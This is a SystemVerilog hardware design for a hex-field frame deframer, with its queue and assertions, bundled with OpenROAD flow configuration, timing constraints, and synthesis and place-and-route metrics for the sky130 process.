==> src/sv/hffd_pkg.sv <==
package hffd_pkg;

    // One received byte of a frame.
    typedef struct packed {
        logic [7:0] frame_byte;
        logic       frame_end;
    } frame_in_t;

    // One result item: a decoded message byte or an end-of-frame status.
    typedef struct packed {
        logic        result_kind;
        logic [7:0]  message_byte;
        logic [30:0] decoded_size;
        logic [7:0]  decoded_type;
        logic        frame_corrupted;
        logic        last_of_run;
    } frame_out_t;

    // Results produced by one byte, in delivery order.
    typedef struct packed {
        logic [1:0] count;
        frame_out_t first;
        frame_out_t second;
    } push_t;

    localparam logic KIND_MESSAGE = 1'b0;
    localparam logic KIND_STATUS  = 1'b1;

    localparam logic [7:0] HEAD_BYTE0 = 8'hDE;
    localparam logic [7:0] HEAD_BYTE1 = 8'hAD;
    localparam logic [7:0] TAIL_BYTE0 = 8'hBE;
    localparam logic [7:0] TAIL_BYTE1 = 8'hEF;
    localparam logic [7:0] DELIM_BYTE = 8'h7C;

    localparam logic [2:0] DELIM_WANTED   = 3'd4;
    localparam logic [2:0] SEGMENT_WANTED = 3'd3;
    localparam logic [2:0] COUNT_MAX      = 3'd7;

    localparam logic [30:0] SIZE_LIMIT = 31'h7FFF_FFFF;
    localparam int TYPE_MAX_DEF = 255;

    // Depth of the result queue; must be a power of two and at least 2.
    localparam int RQ_DEPTH = 4;

    // Returns {valid, value} for an ASCII hex digit.
    function automatic logic [4:0] hex_decode(input logic [7:0] c);
        logic [4:0] r;
        r = 5'd0;
        if (c inside {[8'h30:8'h39]}) begin
            r = {1'b1, c[3:0]};
        end else if (c inside {[8'h41:8'h46], [8'h61:8'h66]}) begin
            r = {1'b1, c[3:0] + 4'd9};
        end
        return r;
    endfunction

endpackage

==> src/sv/hffd_core.sv <==
module hffd_core #(
    parameter int TYPE_MAX = hffd_pkg::TYPE_MAX_DEF
) (
    input  logic                clk,
    input  logic                rst_n,
    input  logic                step,
    input  hffd_pkg::frame_in_t item,
    output hffd_pkg::push_t     push
);
    import hffd_pkg::*;

    localparam int TW = (TYPE_MAX > 1) ? $clog2(TYPE_MAX + 1) : 1;
    localparam int TXW = TW + 4;

    logic [1:0]    head_index_reg, head_index_next;
    logic [7:0]    tail0_reg, tail0_next;
    logic [7:0]    tail1_reg, tail1_next;
    logic [1:0]    delay_fill_reg, delay_fill_next;
    logic [2:0]    delim_cnt_reg, delim_cnt_next;
    logic          run_open_reg, run_open_next;
    logic [2:0]    seg_cnt_reg, seg_cnt_next;
    logic          nib_pend_reg, nib_pend_next;
    logic [3:0]    high_nib_reg, high_nib_next;
    logic [30:0]   size_accum_reg, size_accum_next;
    logic [TW-1:0] type_accum_reg, type_accum_next;
    logic          digit_seen_reg, digit_seen_next;
    logic          err_reg, err_next;

    logic          body_go;
    logic [7:0]    body_b;
    logic [4:0]    hex;
    logic [7:0]    pair;
    logic [3:0]    dig;
    logic [34:0]   size_mul;
    logic [TXW-1:0] type_mul;
    logic          emit_msg;
    logic          bad;
    frame_out_t    msg_res;
    frame_out_t    stat_res;

    always_comb
    begin
        head_index_next = head_index_reg;
        tail0_next      = tail0_reg;
        tail1_next      = tail1_reg;
        delay_fill_next = delay_fill_reg;
        delim_cnt_next  = delim_cnt_reg;
        run_open_next   = run_open_reg;
        seg_cnt_next    = seg_cnt_reg;
        nib_pend_next   = nib_pend_reg;
        high_nib_next   = high_nib_reg;
        size_accum_next = size_accum_reg;
        type_accum_next = type_accum_reg;
        digit_seen_next = digit_seen_reg;
        err_next        = err_reg;
        body_go         = 1'b0;
        emit_msg        = 1'b0;
        body_b          = tail0_reg;
        hex             = hex_decode(tail0_reg);
        pair            = {high_nib_reg, hex[3:0]};
        dig             = pair[3:0];
        size_mul = (35'(size_accum_reg) << 3) + (35'(size_accum_reg) << 1) + 35'(dig);
        type_mul = (TXW'(type_accum_reg) << 3) + (TXW'(type_accum_reg) << 1) + TXW'(dig);

        // Head check, then the two-byte delay line that holds back the tail.
        if (head_index_reg != 2'd2) begin
            if (item.frame_byte != (head_index_reg[0] ? HEAD_BYTE1 : HEAD_BYTE0)) begin
                err_next = 1'b1;
            end
            head_index_next = head_index_reg + 2'd1;
        end else if (delay_fill_reg == 2'd2) begin
            body_go    = 1'b1;
            tail0_next = tail1_reg;
            tail1_next = item.frame_byte;
        end else begin
            if (delay_fill_reg[0]) begin
                tail1_next = item.frame_byte;
            end else begin
                tail0_next = item.frame_byte;
            end
            delay_fill_next = delay_fill_reg + 2'd1;
        end

        // Body byte leaving the delay line.
        if (body_go) begin
            if (body_b == DELIM_BYTE) begin
                if (delim_cnt_reg != COUNT_MAX) begin
                    delim_cnt_next = delim_cnt_reg + 3'd1;
                end
                if (run_open_reg) begin
                    if (seg_cnt_reg < 3'd3) begin
                        if (nib_pend_reg) begin
                            err_next = 1'b1;
                        end
                        if (seg_cnt_reg < 3'd2 && !digit_seen_reg) begin
                            err_next = 1'b1;
                        end
                    end
                    nib_pend_next   = 1'b0;
                    digit_seen_next = 1'b0;
                    if (seg_cnt_reg != COUNT_MAX) begin
                        seg_cnt_next = seg_cnt_reg + 3'd1;
                    end
                    run_open_next = 1'b0;
                end
            end else begin
                run_open_next = 1'b1;
                if (seg_cnt_reg < 3'd3) begin
                    if (!hex[4]) begin
                        err_next = 1'b1;
                    end else if (!nib_pend_reg) begin
                        high_nib_next = hex[3:0];
                        nib_pend_next = 1'b1;
                    end else begin
                        nib_pend_next = 1'b0;
                        if (seg_cnt_reg == 3'd2) begin
                            emit_msg = 1'b1;
                        end else if (!(pair inside {[8'h30:8'h39]})) begin
                            err_next = 1'b1;
                        end else begin
                            digit_seen_next = 1'b1;
                            if (seg_cnt_reg == 3'd0) begin
                                if (size_mul > 35'(SIZE_LIMIT)) begin
                                    size_accum_next = SIZE_LIMIT;
                                    err_next        = 1'b1;
                                end else begin
                                    size_accum_next = size_mul[30:0];
                                end
                            end else begin
                                if (type_mul > TXW'(TYPE_MAX)) begin
                                    type_accum_next = TW'(TYPE_MAX);
                                    err_next        = 1'b1;
                                end else begin
                                    type_accum_next = type_mul[TW-1:0];
                                end
                            end
                        end
                    end
                end
            end
        end

        bad = err_next || (head_index_next != 2'd2) || (delay_fill_next != 2'd2)
            || (tail0_next != TAIL_BYTE0) || (tail1_next != TAIL_BYTE1)
            || (delim_cnt_next != DELIM_WANTED) || (seg_cnt_next != SEGMENT_WANTED);

        msg_res                 = '0;
        msg_res.result_kind     = KIND_MESSAGE;
        msg_res.message_byte    = pair;
        msg_res.last_of_run     = !item.frame_end;

        stat_res                 = '0;
        stat_res.result_kind     = KIND_STATUS;
        stat_res.decoded_size    = size_accum_next;
        stat_res.decoded_type    = 8'(type_accum_next);
        stat_res.frame_corrupted = bad;
        stat_res.last_of_run     = 1'b1;

        push.count  = 2'(emit_msg) + 2'(item.frame_end);
        push.first  = emit_msg ? msg_res : stat_res;
        push.second = stat_res;
        if (!step) begin
            push.count = 2'd0;
        end
    end

    always_ff @(posedge clk or negedge rst_n)
    begin
        if (!rst_n) begin
            head_index_reg <= '0;
            tail0_reg      <= '0;
            tail1_reg      <= '0;
            delay_fill_reg <= '0;
            delim_cnt_reg  <= '0;
            run_open_reg   <= 1'b0;
            seg_cnt_reg    <= '0;
            nib_pend_reg   <= 1'b0;
            high_nib_reg   <= '0;
            size_accum_reg <= '0;
            type_accum_reg <= '0;
            digit_seen_reg <= 1'b0;
            err_reg        <= 1'b0;
        end else if (step) begin
            if (item.frame_end) begin
                head_index_reg <= '0;
                tail0_reg      <= '0;
                tail1_reg      <= '0;
                delay_fill_reg <= '0;
                delim_cnt_reg  <= '0;
                run_open_reg   <= 1'b0;
                seg_cnt_reg    <= '0;
                nib_pend_reg   <= 1'b0;
                high_nib_reg   <= '0;
                size_accum_reg <= '0;
                type_accum_reg <= '0;
                digit_seen_reg <= 1'b0;
                err_reg        <= 1'b0;
            end else begin
                head_index_reg <= head_index_next;
                tail0_reg      <= tail0_next;
                tail1_reg      <= tail1_next;
                delay_fill_reg <= delay_fill_next;
                delim_cnt_reg  <= delim_cnt_next;
                run_open_reg   <= run_open_next;
                seg_cnt_reg    <= seg_cnt_next;
                nib_pend_reg   <= nib_pend_next;
                high_nib_reg   <= high_nib_next;
                size_accum_reg <= size_accum_next;
                type_accum_reg <= type_accum_next;
                digit_seen_reg <= digit_seen_next;
                err_reg        <= err_next;
            end
        end
    end

`ifndef NO_ASSERTIONS
    // A finished frame leaves the parser back at the start of a head.
    a_clear_after_end: assert property (@(posedge clk) disable iff (!rst_n)
        step && item.frame_end |=> head_index_reg == 2'd0 && delay_fill_reg == 2'd0)
        else $error("parser state not cleared after frame end");

    // Bytes reach the body only once head and delay line are full.
    a_body_order: assert property (@(posedge clk) disable iff (!rst_n)
        body_go |-> head_index_reg == 2'd2 && delay_fill_reg == 2'd2)
        else $error("body byte taken before head and delay line are complete");
`endif

endmodule

==> src/sv/hffd_queue.sv <==
module hffd_queue (
    input  logic                 clk,
    input  logic                 rst_n,
    input  hffd_pkg::push_t      push,
    output logic                 room2,
    output logic                 result_valid,
    input  logic                 result_ready,
    output hffd_pkg::frame_out_t result
);
    import hffd_pkg::*;

    localparam int PW = $clog2(RQ_DEPTH);
    localparam int CW = $clog2(RQ_DEPTH + 1);

    frame_out_t      mem_reg [RQ_DEPTH];
    logic [PW-1:0]   wr_ptr_reg;
    logic [PW-1:0]   rd_ptr_reg;
    logic [CW-1:0]   count_reg;
    logic [CW-1:0]   count_next;
    logic            pop;

    assign pop          = result_valid && result_ready;
    assign result_valid = count_reg != '0;
    assign result       = mem_reg[rd_ptr_reg];
    assign room2        = count_reg <= CW'(RQ_DEPTH - 2);
    assign count_next   = count_reg + CW'(push.count) - CW'(pop);

    always_ff @(posedge clk)
    begin
        if (push.count != 2'd0) begin
            mem_reg[wr_ptr_reg] <= push.first;
        end
        if (push.count == 2'd2) begin
            mem_reg[wr_ptr_reg + PW'(1)] <= push.second;
        end
    end

    always_ff @(posedge clk or negedge rst_n)
    begin
        if (!rst_n) begin
            wr_ptr_reg <= '0;
            rd_ptr_reg <= '0;
            count_reg  <= '0;
        end else begin
            wr_ptr_reg <= wr_ptr_reg + PW'(push.count);
            rd_ptr_reg <= rd_ptr_reg + PW'(pop);
            count_reg  <= count_next;
        end
    end

`ifndef NO_ASSERTIONS
    // Nothing is pushed beyond the queue's capacity.
    a_no_overflow: assert property (@(posedge clk) disable iff (!rst_n)
        push.count != 2'd0 |-> room2)
        else $error("result queue written without room");
`endif

endmodule

==> src/sv/hex_field_frame_deframer.sv <==
// Channel  | Handshake                    | Payload
// ---------+------------------------------+---------------------------------
// frame    | frame_valid / frame_ready    | frame (byte, end-of-frame flag)
// result   | result_valid / result_ready  | result (message byte or status)
//
// One byte is accepted per cycle when the result side keeps up. An accepted
// byte is held in the input register, is parsed there, and its zero, one or
// two results enter a four-entry result queue, from which the result port
// offers them in order. A byte that yields two results (the last message
// byte together with the status) fills two queue entries; the queue absorbs
// that, and the parser stalls only when the queue cannot take two more
// results. Reset clears the parser and the queue.
module hex_field_frame_deframer #(
    parameter int TYPE_MAX = hffd_pkg::TYPE_MAX_DEF
) (
    input  logic                 clk,
    input  logic                 rst_n,
    input  logic                 frame_valid,
    output logic                 frame_ready,
    input  hffd_pkg::frame_in_t  frame,
    output logic                 result_valid,
    input  logic                 result_ready,
    output hffd_pkg::frame_out_t result
);
    import hffd_pkg::*;

    logic      in_valid_reg;
    frame_in_t in_item_reg;
    logic      room2;
    logic      step;
    push_t     push;

    // The parser advances on the held byte whenever the queue has room for
    // the worst case of two results; the input register refills in the same
    // cycle, so the block streams one byte per clock while the queue has that room.
    assign step        = in_valid_reg && room2;
    assign frame_ready = !in_valid_reg || step;

    always_ff @(posedge clk or negedge rst_n)
    begin
        if (!rst_n) begin
            in_valid_reg <= 1'b0;
        end else if (frame_ready) begin
            in_valid_reg <= frame_valid;
        end
    end

    always_ff @(posedge clk)
    begin
        if (frame_ready && frame_valid) begin
            in_item_reg <= frame;
        end
    end

    hffd_core #(
        .TYPE_MAX(TYPE_MAX)
    ) u_core (
        .clk  (clk),
        .rst_n(rst_n),
        .step (step),
        .item (in_item_reg),
        .push (push)
    );

    hffd_queue u_queue (
        .clk         (clk),
        .rst_n       (rst_n),
        .push        (push),
        .room2       (room2),
        .result_valid(result_valid),
        .result_ready(result_ready),
        .result      (result)
    );

`ifndef NO_ASSERTIONS
    // Every end-of-frame byte produces at least its status item.
    a_status_on_end: assert property (@(posedge clk) disable iff (!rst_n)
        step && in_item_reg.frame_end |-> push.count != 2'd0)
        else $error("end-of-frame byte produced no status");

    // A pair of results is always a message byte followed by the status.
    a_pair_order: assert property (@(posedge clk) disable iff (!rst_n)
        push.count == 2'd2 |-> push.first.result_kind == KIND_MESSAGE
            && push.second.result_kind == KIND_STATUS && !push.first.last_of_run)
        else $error("result pair out of order");

    // Results are only produced by a byte that the parser takes.
    a_push_needs_step: assert property (@(posedge clk) disable iff (!rst_n)
        push.count != 2'd0 |-> step)
        else $error("results produced without a parsed byte");
`endif

endmodule
==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = hex_field_frame_deframer
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/sv/hffd_pkg.sv /design/src/sv/hffd_core.sv /design/src/sv/hffd_queue.sv /design/src/sv/hex_field_frame_deframer.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CORE_ASPECT_RATIO = 1.4
export CORE_MARGIN = 2
export CORE_UTILIZATION = 60
export DETAILED_ROUTE_END_ITERATION = 7
export PLACE_DENSITY = 0.78
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 6.5 [get_ports clk]
set_input_delay 0.65 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.65 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden

Memories as Yosys holds them, arrays and structs flattened.
Cells that the tools add are included.

$add $sub $neg: 15
$lt $le $gt $ge: 13
Equality and inequality tests: 18
Mux-type cells: 100
Reduce and logical (&&, ||, !) cells: 33

Operators with widths:

| operator                                                           | number |
|---|---|
| 2-to-1 mux 31 bit                                                  | 10 |
| 2-to-1 mux 8 bit                                                   | 18 |
| 2-to-1 mux 50 bit                                                  | 1 |
| 2-to-1 mux 1 bit                                                   | 47 |
| adder 34 x 32 -> 35 bit                                            | 1 |
| adder 35 x 4 -> 35 bit                                             | 1 |
| > comparator 35 x 31 -> 1 bit (second input constant)              | 1 |
| 2-to-1 mux 3 bit                                                   | 9 |
| 2-to-1 mux 4 bit                                                   | 6 |
| greater-or-equal comparator 8 x 6 -> 1 bit (second input constant) | 2 |
| greater-or-equal comparator 8 x 7 -> 1 bit (second input constant) | 2 |
| <= comparator 8 x 6 -> 1 bit (second input constant)               | 2 |
| <= comparator 8 x 7 -> 1 bit (second input constant)               | 2 |
| != test 8 bit (second input constant)                              | 2 |
| nonzero test 3 bit                                                 | 5 |
| adder 11 x 9 -> 12 bit                                             | 1 |
| adder 12 x 4 -> 12 bit                                             | 1 |
| > comparator 12 x 8 -> 1 bit (second input constant)               | 1 |
| 2-to-1 mux 2 bit                                                   | 6 |
| 2-to-1 mux 5 bit                                                   | 2 |
| != test 2 bit (second input constant)                              | 5 |
| nonzero test 2 bit                                                 | 5 |
| != test 3 x 2 -> 1 bit (second input constant)                     | 3 |
| != test 3 bit (second input constant)                              | 3 |
| other kinds (23)                                                   | 43 |

Flip-flop bits (word level): 90
Bits in writable memories: 200
Bits of input ports: 13
Output and inout bits: 52
Word-level logic and storage cells: 199
Memories: 1

Memory list:

| name            | words | width | read ports | clocked after Yosys merged registers in | wr ports | line             | source |
|---|---|---|---|---|---|---|---|
| u_queue.mem_reg | 4     | 50    | 1          | 0                                       | 2        | hffd_queue.sv:15 | `frame_out_t mem_reg [RQ_DEPTH];` |

Depth between registers and ports, before layout

Depth in word-level cells: 23
Mapped depth: 23
Depth with buffers taken out: 21

Cells and area by module

From an unflattened synthesis, not the netlist that was laid out.

Cell total of the unflattened synthesis: 1,463
Area, all modules: 18,386.4 µm²

By module, submodules not included:

| module                   | instances | cells an instance | area an instance (µm²) | sequential area each (µm²) |
|---|---|---|---|---|
| hffd_queue               | 1         | 527               | 10,525.1               | 6,180.9 |
| hffd_core                | 1         | 922               | 7,531.0                | 1,826.8 |
| hex_field_frame_deframer | 1         | 14                | 330.3                  | 295.3 |

Worst setup path after synthesis

No wires, ideal clock.

Path kind: reg2reg
Start: register u_core.tail0_reg[0] (netlist: u_core.body_b[0])
End: memory u_queue.mem_reg[0][18] in the netlist's numbering (data pin)
Library setup time: 0.266 ns
Arrival: 4.541 ns
Required time: 6.234 ns
Slack: 1.693 ns
Stages on the path, launching flop included: 19
Path buffers: 1
Period minus slack after synthesis: 4.807 ns
Cell sequence: dfrtp_1 inv_1 ha_1 nor3b_2 nor4_4 a21oi_4 nor2_2 fa_1 ha_1 a211oi_2 o211ai_1 a21oi_1 a21oi_1 a211oi_1 mux2i_1 o2111ai_4 buf_4 o41ai_4 nor2_1

RTL lines:

| what                   | line             | source |
|---|---|---|
| from (decl)            | hffd_core.sv:16  | `logic [7:0] tail0_reg, tail0_next;` |
| from (signal assigned) | hffd_core.sv:200 | `tail0_reg <= tail0_next;` |
| to (decl)              | hffd_queue.sv:15 |  |

==> metrics.md <==
| Metric | Value |
|---|---|
| Placed insts | 1812 |
| DP HPWL | roughly 27000 um |
| Yosys top cell area share | 0.310 |
| Ys flop type | edfxtp_1 |
| # resized after CTS | 0 |
| Worst slack at placement | about 0.70 ns |
| Post-synth top cells | nor2_1 (216), edfxtp_1 (169), nand2_1 (131) |
| Final period util | 0.908 |
| Sequential power share | 0.418 |
| Clock Skew | 0.00797 ns |
| Synthesized netlist cell count | approximately 1400 |
| First-pass DRT Iterations | 5 |
| CP Data Arrival Time | 6.20 ns |
| # clock sinks | 290 |
| Gr busiest metal | met2 |
| RSZ-0062 raised after global routing | no |
| Worst Hold Class | in -> async |
| Clk slew on worst S/H paths | 0.07 ns |
| MaxCap Viol Count | 0 |
| Die Ht | around 200 um |
| Synth top area cells | edfxtp_1 (31%), dfrtp_1 (12%), ha_1 (7.2%) |
| Leading area contributor after synthesis | edfxtp_1 |
| IO Count | 65 |
| Leakage power | a little under 7 nW |
| Setup_tns | 0 ns |
| ANT cells | 0 |
| Initial antenna violation count | 0 |
| Grt total ovfl | 0 |
| Max IR drop VDD | around 0.33 mV |
| Max Clock Freq | approximately 170 MHz |
| Hold Violations, Final | 0 |
| Starting Density | 0.611 |
| CP Launch Type | register |
| Logic pwr share | 0.297 |
| Skew-Pair Late Insertion Delay | ~0.57 ns |
| Cell Int Power | around 3.8 mW |
| Switching power | 1.83 mW |
| Final worst slack | around 0.6 ns |
| Post-synthesis cell type count | 80 |
| Final WL | between 40000 and 50000 um |
| Post-synth EDFFs | 169 |
| Core area | between 0.02 and 0.03 sq mm |
| PwrDens | 312 mW/mm^2 |
| Outcome | finished, final reports clean |
| TritonCTS clock tree | yes |
| Slew headroom | 0.345 |
| Crit end category | register |
| Grt met3 use | 0.0307 |
| Syn_nets | 1553 |
| GR Util All Layers | 0.289 |
| Met1 global-route usage | 0.343 |
| Layout area overhead | 10.1% |
| Max FFs per register | 200 |
| CP Class | reg -> reg |
| Port Buffers | 64 |
| Final setup viols | 0 |
| Global-route wire length before repair | between 60000 and 70000 um |
| Die area | between 0.02 and 0.03 sq mm |
| Largest net degree at the start of global routing | 52 |
| Slew Viols, Final | 0 |
| Worst-Margin Slew | slightly below 1 ns |
| Post-synthesis sequential area ratio | 0.482 |
| Clk network pwr share | 0.285 |
| Postcts setup bufs | 0 |
| Final #Nets | around 1600 |
| TritonCTS Buffers | 27 |
| Mapped cell area | ~0.016 sq mm |
| Wire per inst | 21.6 um |
| DR vias/cell | about 6.4 |
| Hold Buf Count CTS | 0 |
| Post-route DRC | 0 |
| H-tree levels | 1 |
| Horiz. Die Dim | approximately 140 um |
| Post-synth ARST share | 0.279 |
| Sw Share | 0.325 |
| Min Tclk post-route | 5.90 ns |
| Vias in the first global route | approximately 12000 |
| GP Congestion | between 0.9 and 1 |
| Fin cells | 1862 |
| GRT met2 Usage | 0.516 |
| FP Rows | between 70 and 80 |
| Most frequent cell after synthesis | nor2_1 |
| Vias | 11900 |
| Critical Path RT | a little under 7 ns |
| Synth warn | 0 |
| DR iter-0 viols | 928 |
| Mapped Avg Cell Area | 11.4 sq um |
| Post-route ant nets | 0 |
| Yosys reg bits | between 200 and 300 |
| Critical Path Fanout Max | 34 |
| Root Driver | clkbuf_16 |
| Longest Clk Path Bufs | 3 |
| Layout cell share with drive strength beyond 1 | 0.183 |
path summary, 6_finish.rpt:
| check | cells past startpoint | endpoint | slack [ns] | from |
|---|---|---|---|---|
| max in group asynchronous | 2 | u_queue.rd_ptr_reg[0] | 5.34 | rst_n |
| min in group clk | 1 | in_item_reg[4] | 0.26 | frame[4] |
| min | 1 | u_core.type_accum_reg[7] | 0.05 | rst_n |
| min reg2reg | 2 | u_queue.mem_reg[1][49] | 0.44 | u_queue.mem_reg[1][49] |
| max | 18 | u_queue.mem_reg[0][19] | 0.60 | u_core.body_b[0] |
| max reg2reg | 18 | u_queue.mem_reg[0][19] | 0.60 | u_core.body_b[0] |
area by class of cell:
| cell class | count | area (sq um) |
|---|---|---|
| multi-input cells | 1030 | 7970 |
| flip-flops and latches | 290 | 7910 |
| repair buffers | 86 | 671 |
| well taps | 365 | 457 |
| inverters | 41 | 154 |
| clock buffers | 33 | 708 |
| fillers | 2014 | 8780 |
| clock inverters | 17 | 176 |
per-stage QoR:
stage	hold slack, ns	utilization	power (mW)	area [sq um]
floorplan	0.354	-	3.40	16400
global placement	0.430	0.640	4.03	17200
detailed placement	0.433	0.640	4.06	17200
CTS	0.0433	0.673	5.65	18000
global route	0.0682	0.673	5.87	18000
finish	0.0518	0.673	5.62	18000
metal layers:
metal / routed length (um) / share of wire / up-vias
met5: 0 / 0 / -
met2: 21200 / 0.53 / 448
met3: 2070 / 0.051 / 116
met4: 2100 / 0.052 / 0
met1: 14900 / 0.37 / 5876
li1: - / - / 5415
logic make-up after synthesis:
logic type,Yosys count,share of synthesized area
buffers and inverters,121,0.0321
adders and majority gates,99,0.0779
muxes,53,0.0706
AOI/OAI and AO/OA,327,0.172
and+or+nand+nor,514,0.144
xor gates and xnor gates,37,0.0209
DFF,290,0.482
critical path: stages, from the launching register on:
cell and delay (ns):
dfrtp_1 0.49, inv_1 0.12, ha_1 0.24, nor3b_2 0.17, nor4_4 0.27, a21oi_4 0.13, nor2_2 0.37, fa_1 0.51
ha_1 0.34, a211oi_2 0.33, o211ai_1 0.14, a21oi_1 0.32, a21oi_1 0.20, a211oi_1 0.37, mux2i_1 0.32, o2111ai_4 0.37
buf_12 0.32, o41ai_4 0.45, nor2_1 0.10
power by group through the flow:
stage	sequential, mW	combinational, mW	clock (mW)
2_1_floorplan	2.30	1.10	0
3_3_place_gp	2.37	1.66	0
3_5_place_dp	2.38	1.68	0
4_1_cts	2.34	1.68	1.62
5_1_grt	2.37	1.81	1.69
6_report	2.35	1.67	1.60
cell usage in the layout (no fill, tap or decap), drive strengths merged, types with 5 or more instances in the layout:
cell type	count
o41ai	33
nand2	131
nor2	217
nor4	7
xor2	16
clkbuf	33
edfxtp	169
nand4	10
and3	6
nand2b	15
nor3	45
buf	86
a21oi	67
ha	94
clkinv	13
inv	39
o211ai	8
a22oi	6
dfrtp	81
o21ai	105
xnor2	21
o2111ai	9
or2	33
dfxtp	40
o21bai	7
mux4	50
a21o	9
fa	5
a22o	40
o21a	8
nor2b	8
nand3	18
a211oi	8
No activity file was read; power rests on OpenSTA's default activity.
